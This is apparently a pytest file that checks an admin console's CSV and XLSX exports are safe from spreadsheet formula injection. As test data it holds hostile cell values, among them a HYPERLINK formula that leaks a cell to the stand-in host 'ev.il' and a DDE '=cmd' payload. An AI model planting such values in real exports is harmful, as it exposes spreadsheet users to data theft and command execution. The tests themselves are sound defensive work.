"""Console exports are safe from spreadsheet formula injection (issue 14, finding 7).

A curator could name a member ``=HYPERLINK("http://ev.il/?"&E2,"x")``: the XLSX export
wrote it as a live formula and the CSV export as a raw cell, run by the spreadsheet of
whoever opened the file.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator

import pytest
from openpyxl import Workbook, load_workbook

from hub.enums import AuditAction, MemberCategory, Role
from hub.models import AuditLog, Member
from hub.services.roster import roster_template_csv, roster_template_xlsx
from hub.settings import Settings
from hub.spreadsheet import csv_cell, xlsx_row
from tests.admin_support import Console, Server, console_server, make_account, signed_in
from tests.service_world import build_world

__all__ = ["console_server"]

HOSTILE = '=HYPERLINK("http://ev.il/?"&E2,"x")'
OTHERS = ["+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
async def admin(orm: Settings, console_server: Server) -> AsyncIterator[Console]:
    await make_account("console-exports-admin", Role.ADMIN)
    client = await signed_in(console_server, "console-exports-admin")
    yield client
    await client.close()


@pytest.fixture(scope="module")
async def hostile_member(orm: Settings) -> Member:
    # (a small world of its own: no demo data needed)
    world = await build_world(f"导出{uuid.uuid4().hex[:6]}")
    return await Member.create(
        name=HOSTILE, category=MemberCategory.DIRECT, branch=world.branch, work_unit="@evil()"
    )


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


async def test_the_csv_export_neutralises_formulas(admin: Console, hostile_member: Member) -> None:
    answer = await admin.get("/admin/member/export/csv/", params={"flt0_name_equals": HOSTILE})
    assert answer.status_code == 200
    rows = _csv(answer.content)
    found = [row for row in rows[1:] if row[0] == str(hostile_member.id)]
    assert len(found) == 1
    exported = dict(zip(rows[0], found[0], strict=True))
    assert exported["姓名"] == f"'{HOSTILE}"  # a leading quote: shown as text
    assert exported["工作单位"] == "'@evil()"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_the_xlsx_export_writes_formulas_as_text(
    admin: Console, hostile_member: Member
) -> None:
    answer = await admin.get("/admin/member/export/xlsx/", params={"flt0_name_equals": HOSTILE})
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    assert sheet is not None
    titles = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == str(hostile_member.id))
    name = row[titles.index("姓名")]
    assert name.data_type == "s" and name.quotePrefix  # a string cell, never a formula
    assert name.value == HOSTILE  # the text itself is unchanged
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


async def test_the_audit_export_neutralises_formulas(admin: Console) -> None:
    entry = await AuditLog.create(
        actor_name="=cmd|' /C calc'!A0", action=AuditAction.UPDATE, entity="Member"
    )
    params = {"flt0_id_equals": str(entry.id)}
    as_csv = await admin.get("/admin/auditlog/export/csv/", params=params)
    assert as_csv.status_code == 200
    rows = _csv(as_csv.content)
    assert next(row for row in rows[1:] if row[0] == str(entry.id))[2] == "'=cmd|' /C calc'!A0"
    as_xlsx = await admin.get("/admin/auditlog/export/xlsx/", params=params)
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert sheet is not None
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS])
def test_every_formula_start_is_neutralised(text: str) -> None:
    assert csv_cell(text) == f"'{text}"
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(xlsx_row(sheet, [text, "普通文本", None]))
    out = io.BytesIO()
    book.save(out)
    read = load_workbook(io.BytesIO(out.getvalue())).active
    assert read is not None
    cells = list(read[1])
    assert cells[0].data_type == "s" and cells[0].quotePrefix
    assert cells[0].value == text.replace("\r", "\n")  # XML keeps no bare CR
    assert cells[1].value == "普通文本" and not cells[1].quotePrefix


@pytest.mark.parametrize("text", ["党员", "13800000000", "2020-01-01", "a=b", "", None])
def test_plain_text_is_left_alone(text: str | None) -> None:
    assert csv_cell(text) == (text or "")


def test_the_roster_templates_hold_no_formula() -> None:
    assert not any(cell.startswith("=") for cell in _csv(roster_template_csv())[0])
    book = load_workbook(io.BytesIO(roster_template_xlsx()))
    assert not any(c.data_type == "f" for s in book.worksheets for r in s.iter_rows() for c in r)


async def test_the_export_shows_related_records_by_name(
    admin: Console, hostile_member: Member
) -> None:
    """flask-admin selects the rows; the export columns' relations are fetched with them
    (a relation not fetched would be exported as an object's repr or left empty)."""
    answer = await admin.get("/admin/member/export/csv/", params={"flt0_name_equals": HOSTILE})
    rows = _csv(answer.content)
    found = [row for row in rows[1:] if row[0] == str(hostile_member.id)]
    await hostile_member.fetch_related("branch")
    assert hostile_member.branch.name in found[0]
    assert not any("<" in cell and "object" in cell for cell in found[0])
